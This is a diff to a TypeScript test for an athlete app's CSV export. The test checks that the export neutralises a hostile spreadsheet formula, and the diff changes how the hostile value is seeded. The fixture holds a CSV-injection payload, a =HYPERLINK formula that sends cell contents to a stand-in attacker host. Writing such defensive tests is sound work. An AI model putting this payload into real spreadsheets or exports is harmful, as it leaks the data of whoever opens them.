@@ -188,9 +188,9 @@ describe("getAthlete and updateAthlete", () => {
 describe("exportAthletesCsv", () => {
   it("exports the current view as UTF-8 with a BOM and neutralises a hostile =HYPERLINK value", async () => {
     const { coach, uid } = await signedInCoach("csv");
-    const [maya] = await seedAthletes(uid, [athlete("Maya", "Thompson"), athlete("Ava", "Johnson", { state: value("IN") })]);
+    // As an email could carry it (a coach's correction is refused: it holds a web address).
     const hostile = '=HYPERLINK("http://evil.example/?leak="&A1,"Film")';
-    await coach.call("updateAthlete", { athleteId: maya!.id, corrections: { clubTeam: hostile } });
+    await seedAthletes(uid, [athlete("Maya", "Thompson", { clubTeam: value(hostile) }), athlete("Ava", "Johnson", { state: value("IN") })]);
 
     const exported = await coach.call("exportAthletesCsv", { filters: { states: ["KY"] }, sort: { by: "name", direction: "asc" } });
     expect(exported.count).toBe(1);
